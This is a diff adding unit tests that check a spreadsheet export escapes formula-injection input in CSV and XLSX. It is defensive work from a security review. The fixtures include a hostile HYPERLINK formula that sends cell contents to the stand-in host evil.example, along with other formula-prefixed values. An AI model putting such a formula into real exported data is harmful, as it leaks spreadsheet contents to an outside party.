@@ -45,3 +45,47 @@ describe('exportFileName', () => {
     expect(exportFileName(['a/b:c'], 'xlsx')).toBe('a_b_c.xlsx');
   });
 });
+
+describe('formula injection (security review finding 6)', () => {
+  // A ref or unit name that begins with =, +, -, @, a tab or a CR must reach a spreadsheet as text.
+  const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"点我")';
+  interface Row {
+    ref: string;
+    name: string;
+    change: number;
+  }
+  const columns: ExportColumn<Row>[] = [
+    { header: '投诉编号', value: (row) => row.ref },
+    { header: '机构', value: (row) => row.name },
+    { header: '增减', value: (row) => row.change },
+  ];
+  const rows: Row[] = [
+    { ref: '+86-1', name: HOSTILE, change: -28.85 },
+    { ref: '-1+2', name: '@cmd', change: 3 },
+    { ref: '\t=1', name: '\r=2', change: 0 },
+    { ref: 'x,=1+1', name: 'a;=1', change: -1 },
+  ];
+
+  it('writes CSV with every such text behind a quote and quoted where it needs it, negative numbers as they are', () => {
+    expect(toCsv(columns, rows).split('\r\n')).toEqual([
+      '投诉编号,机构,增减',
+      `'+86-1,"'=HYPERLINK(""https://evil.example/?""&A1,""点我"")",-28.85`,
+      `'-1+2,'@cmd,3`,
+      `"'\t=1","'\r=2",0`,
+      `"x,=1+1","a;=1",-1`,
+      '',
+    ]);
+  });
+
+  it('writes XLSX text cells behind a quote and numbers as number cells', async () => {
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await toXlsx('投诉', columns, rows));
+    const sheet = workbook.getWorksheet('投诉')!;
+    expect(sheet.getRow(2).values).toEqual([undefined, "'+86-1", `'${HOSTILE}`, -28.85]);
+    expect(sheet.getRow(3).values).toEqual([undefined, "'-1+2", "'@cmd", 3]);
+    // (XML reads a carriage return back as a line feed)
+    expect(sheet.getRow(4).values).toEqual([undefined, "'\t=1", "'\n=2", 0]);
+    expect(sheet.getCell('C2').type).toBe(ExcelJS.ValueType.Number);
+    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
+  });
+});
